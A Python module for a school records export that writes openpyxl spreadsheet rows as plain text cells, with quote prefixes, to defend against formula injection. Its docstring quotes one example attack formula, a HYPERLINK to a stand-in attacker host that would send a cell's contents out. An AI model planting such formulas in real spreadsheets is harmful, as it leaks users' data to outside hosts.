"""Writing rows of a spreadsheet export so that text stays text.

A cell whose text starts with ``=`` is a formula to openpyxl, and to Excel or LibreOffice
text starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return may become one
when the cell is edited or the sheet saved as CSV: "formula injection". What a teacher,
a head or the registry typed (``=HYPERLINK("https://evil.example/?"&A1, "Open")``) must
never run on the registrar's computer. So every export writes its rows through
``append_row``:

- text is always stored as a text cell (never a formula, never an error code such as
  ``#REF!``), word for word: a comment "-5 points" still reads "-5 points";
- text that starts with one of the characters above also gets Excel's "quote prefix"
  (the cell shows no apostrophe, but editing it keeps it text);
- control characters a worksheet cannot hold are dropped (openpyxl would refuse the
  whole file), and text is cut at Excel's 32,767 characters.

Numbers, dates and ``None`` are written as they are.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
MAX_CELL_CHARS = 32_767  # Excel's limit for one cell


def text_cell(sheet: Worksheet, text: str) -> Cell:
    """A cell holding ``text`` as text, whatever it starts with."""
    clean = ILLEGAL_CHARACTERS_RE.sub("", text)[:MAX_CELL_CHARS]
    cell = Cell(sheet)
    cell.value = clean
    cell.data_type = "s"  # openpyxl made "=..." a formula and "#REF!" an error: undo that
    if clean.startswith(FORMULA_TRIGGERS):
        cell.quotePrefix = True
    return cell


def append_row(sheet: Worksheet, values: Iterable[Any]) -> None:
    """``sheet.append(values)`` with every text written by ``text_cell``."""
    sheet.append([text_cell(sheet, v) if isinstance(v, str) else v for v in values])
